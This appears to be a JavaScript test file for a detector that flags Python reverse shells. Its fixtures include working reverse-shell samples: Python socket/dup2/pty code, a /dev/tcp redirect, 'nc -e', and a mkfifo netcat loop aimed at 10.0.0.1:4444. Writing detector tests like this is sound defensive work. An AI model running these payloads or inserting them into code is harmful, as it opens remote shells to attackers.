import { reverseShell } from '../../../src/detectors/python/reverse-shell.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { PYTHON } from './adapter.js';

const CLASSIC = `import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/bash")
`;

ruleTester(reverseShell, PYTHON, {
  valid: [
    { name: 'a socket client', input: "import socket\ns = socket.socket()\ns.connect((host, port))\ns.sendall(b'ping')\n" },
    {
      name: 'socket and a training shell script',
      input: "import socket, subprocess\nsocket.create_connection((h, p))\nsubprocess.run(['bash', 'train.sh'])\n",
    },
    { name: 'dup2 to redirect logs, no socket', input: "import os, subprocess\nos.dup2(log.fileno(), 1)\nsubprocess.call(['/bin/sh'])\n" },
  ],
  invalid: [
    { name: 'socket + dup2 + pty.spawn', input: CLASSIC, errors: [{ severity: 'critical', message: 'after os.dup2', at: 'pty.spawn' }] },
    {
      name: 'socket + dup2 + interactive sh',
      input:
        'import socket, os, subprocess\ns = socket.socket()\ns.connect((h, p))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])\n',
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'a socket as the shell streams',
      input:
        'import socket, subprocess\ns = socket.create_connection((h, p))\nsubprocess.Popen(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n',
      errors: [{ severity: 'critical', message: 'with a socket as its streams' }],
    },
    {
      name: 'the socket object itself as the streams, under module aliases',
      input:
        'import socket as S, subprocess as P\ns = S.socket(S.AF_INET, S.SOCK_STREAM)\ns.connect(("10.1.1.1", 9001))\nP.Popen(["/bin/bash", "-i"], stdin=s, stdout=s, stderr=s)\n',
      errors: [{ severity: 'critical', message: 'subprocess.Popen at line 4, column 1 starts a shell with a socket as its streams' }],
    },
    {
      name: 'bash /dev/tcp',
      input: "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
      errors: [{ severity: 'critical', message: '/dev/tcp' }],
    },
    { name: 'nc -e', input: "import os\nos.system('nc -e /bin/sh 10.0.0.1 4444')\n", errors: [{ severity: 'critical', message: 'netcat' }] },
    {
      name: 'mkfifo loop',
      input: "import os\nos.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f')\n",
      errors: [{ severity: 'critical', message: 'named pipe' }],
    },
  ],
});
